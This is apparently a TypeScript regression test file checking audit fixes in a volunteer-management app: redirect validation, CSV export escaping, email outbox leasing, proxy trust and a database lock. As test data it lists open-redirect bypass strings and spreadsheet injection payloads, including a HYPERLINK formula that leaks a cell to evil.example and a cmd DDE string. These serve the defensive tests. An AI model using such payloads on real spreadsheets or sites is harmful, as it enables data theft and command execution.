import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdtemp, rm } from "node:fs/promises";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { after, before, beforeEach, describe, it } from "node:test";
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import express from "express";
import { outbox } from "../../db/schema/outbox";
import { openDatabase } from "../../db/client";
import { rosterCsv } from "../../app/models/chapters/roster.server";
import { neutraliseFormula, spreadsheetCsv } from "../../app/services/csv.server";
import { trustProxySetting } from "../../app/services/http.server";
import { queueEmail } from "../../app/services/outbox.server";
import { createSmtpTransport, deliverDueEmails, type MailTransport } from "../../app/services/outbox-delivery.server";
import { safeRedirect } from "../../app/utils/redirect";
import { addMembership, createChapter, createUser, createVolunteerProfile } from "../factories";
import { createTestDatabase, type TestDatabase } from "../support/db";
import { startSmtp, type TestSmtp } from "../support/smtp";

describe("safe redirects (audit item 5)", () => {
  it("keeps same-site paths", () => {
    assert.equal(safeRedirect("/chapters/rtik-jember?tab=roster#apply"), "/chapters/rtik-jember?tab=roster#apply");
    assert.equal(safeRedirect("/"), "/");
  });
  it("refuses every known bypass form", () => {
    const bypasses = [
      "/\t/evil.example/login",
      "/\n/evil.example",
      "/\r\n/evil.example",
      "/%09/evil.example",
      "/%2F/evil.example",
      "/%2f%2fevil.example",
      "/%5C/evil.example",
      "/\\evil.example",
      "/\\/evil.example",
      "\\\\evil.example",
      "//evil.example",
      "///evil.example",
      "https://evil.example",
      "javascript:alert(1)",
      " /\t/evil.example",
      "/x\nSet-Cookie: a=b",
      "/%E0%A4%A",
      "",
    ];
    for (const to of bypasses) assert.equal(safeRedirect(to, "/fallback"), "/fallback", JSON.stringify(to));
    assert.equal(safeRedirect(null, "/f"), "/f");
  });
});

describe("CSV formula injection (audit item 6)", () => {
  it("neutralises cells starting with = + - @ tab or CR, keeps numbers and WhatsApp numbers", () => {
    for (const v of ['=HYPERLINK("https://evil.example/?"&B2,"Klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"])
      assert.equal(neutraliseFormula(v), `'${v}`);
    assert.equal(neutraliseFormula("+6281234567890"), "+6281234567890");
    assert.equal(neutraliseFormula("Siti Aminah"), "Siti Aminah");
    const csv = spreadsheetCsv([["a", "b"], ["=1+1", -2.5]], ";");
    assert.match(csv, /'=1\+1;-2,5/);
  });
});

describe("with a database", () => {
  let t: TestDatabase;
  before(async () => {
    t = await createTestDatabase();
  });
  after(async () => {
    await t.close();
  });

  it("exports a formula typed as a volunteer's name as text in both roster flavours (item 6)", async () => {
    const chapterId = (await createChapter(t.db, { regionCode: "35.09" })).id;
    const evil = '=HYPERLINK("https://evil.example/?"&B2,"Klik")';
    const u = await createUser(t.db, { name: evil });
    await createVolunteerProfile(t.db, { userId: u.id, regionCode: "35.09.01", skills: [], availability: [] });
    await addMembership(t.db, { userId: u.id, chapterId });
    for (const d of [",", ";"] as const) {
      const csv = await rosterCsv(t.db, chapterId, { status: "all" }, d);
      const rows: Record<string, string>[] = parse(csv.slice(1), { columns: true, delimiter: d });
      assert.equal(rows[0]?.nama, `'${evil}`);
      assert.ok(!csv.includes(`${d}=HYPERLINK`) && !csv.includes(`\n=HYPERLINK`));
    }
  });

  describe("outbox (items 11 and 12)", () => {
    let smtp: TestSmtp;
    let transport: ReturnType<typeof createSmtpTransport>;
    before(async () => {
      smtp = await startSmtp();
      transport = createSmtpTransport(smtp.url);
    });
    after(async () => {
      transport.close();
      await smtp.stop();
    });
    beforeEach(async () => {
      await t.db.delete(outbox);
      smtp.raw.length = 0;
    });

    async function queue(n: number, prefix: string, payload: (i: number) => Record<string, unknown>) {
      await t.db.transaction(async (tx) => {
        for (let i = 0; i < n; i++)
          await queueEmail(tx, { to: `${prefix}${i}@example.test`, template: "notice", locale: "id", payload: payload(i), dedupKey: `${prefix}:${i}` });
      });
    }

    it("a crash mid-send holds at most the emails in flight, for two minutes at most", async () => {
      await queue(20, "crash", (i) => ({ title: `Pesan ${i}`, body: "x" }));
      // a process that dies while sending: its SMTP calls never return
      const hung: MailTransport = { sendMail: () => new Promise(() => {}) };
      void deliverDueEmails(t.db, { transport: hung });
      await new Promise((r) => setTimeout(r, 500));
      const leased = await t.db
        .select({ id: outbox.id, secondsLeft: sql<number>`extract(epoch from ${outbox.lockedUntil} - now())::float8` })
        .from(outbox)
        .where(sql`${outbox.lockedUntil} > now()`);
      assert.ok(leased.length > 0 && leased.length <= 5, `${leased.length} rows held`);
      for (const l of leased) assert.ok(l.secondsLeft <= 120, `lease ${l.secondsLeft} s`);
      // another process sends all the others right away
      const other = await deliverDueEmails(t.db, { transport });
      assert.equal(other.sent, 20 - leased.length);
    });

    it("the Message-ID stays the same when a message is sent again after a lost lease", async () => {
      await queue(1, "again", () => ({ title: "Ulang", body: "x" }));
      // the SMTP server accepted it, then the connection dropped before the worker heard back
      const lossy: MailTransport = {
        async sendMail(m) {
          await transport.sendMail(m);
          throw new Error("ECONNRESET");
        },
      };
      assert.equal((await deliverDueEmails(t.db, { transport: lossy })).retried, 1);
      await t.db.update(outbox).set({ nextAttemptAt: sql`now()` });
      assert.equal((await deliverDueEmails(t.db, { transport })).sent, 1);
      const ids = (await smtp.parsed()).map((m) => m.messageId);
      assert.equal(ids.length, 2);
      assert.equal(ids[0], ids[1]);
    });

    it("a sent email keeps no reset or tracking link in the database", async () => {
      await queue(1, "reset", () => ({ url: "http://simpul.test/reset-password/RAWTOKEN123456", name: "Siti" }));
      await t.db.update(outbox).set({ template: "password-reset" });
      assert.equal((await deliverDueEmails(t.db, { transport })).sent, 1);
      const [row] = await t.db.select({ payload: outbox.payload, status: outbox.status }).from(outbox);
      assert.equal(row?.status, "sent");
      assert.ok(!JSON.stringify(row?.payload).includes("RAWTOKEN"), JSON.stringify(row?.payload));
      const [mail] = await smtp.parsed();
      assert.match(mail?.text ?? "", /RAWTOKEN123456/);
    });
  });
});

describe("TRUST_PROXY (item 4)", () => {
  async function ipSeen(setting: string, forwardedFor: string): Promise<string> {
    const app = express();
    app.set("trust proxy", trustProxySetting(setting));
    app.get("/", (req, res) => res.send(req.ip));
    const server = app.listen(0, "127.0.0.1");
    await new Promise((r) => server.once("listening", r));
    try {
      const res = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`, { headers: { "X-Forwarded-For": forwardedFor } });
      return await res.text();
    } finally {
      server.close();
    }
  }
  it("one hop: a client-written X-Forwarded-For entry is not believed, the proxy's own is", async () => {
    // the client sends "1.2.3.4"; our proxy appends the address it saw (here 203.0.113.9)
    assert.equal(await ipSeen("1", "1.2.3.4, 203.0.113.9"), "203.0.113.9");
    assert.equal(await ipSeen("loopback", "1.2.3.4, 203.0.113.9"), "203.0.113.9");
    assert.equal(await ipSeen("0", "1.2.3.4"), "127.0.0.1");
  });
  it("refuses a setting that is neither hops nor addresses", () => {
    assert.throws(() => trustProxySetting("yes please"));
    assert.equal(trustProxySetting("2"), 2);
    assert.equal(trustProxySetting(""), false);
  });
});

describe("PGlite data folder lock (item 7)", () => {
  it("a second process on the same folder refuses to start with a clear message", async () => {
    const dir = await mkdtemp(path.join(os.tmpdir(), "simpul-lock-"));
    const folder = path.join(dir, "pglite");
    const first = await openDatabase({ pgliteDir: folder });
    try {
      const child = spawn(process.execPath, ["--import", "tsx", "-e", `import("./db/client.ts").then((m) => m.openDatabase({ pgliteDir: ${JSON.stringify(folder)} })).then(() => { console.log("opened"); process.exit(0); }, (e) => { console.error(e.message); process.exit(3); })`], { stdio: ["ignore", "pipe", "pipe"] });
      let out = "";
      child.stdout.on("data", (b) => (out += b));
      child.stderr.on("data", (b) => (out += b));
      const code = await new Promise((r) => child.on("exit", r));
      assert.equal(code, 3, out);
      assert.match(out, /in use by another Simpul process/);
    } finally {
      await first.close();
    }
    await rm(dir, { recursive: true, force: true });
  });
});

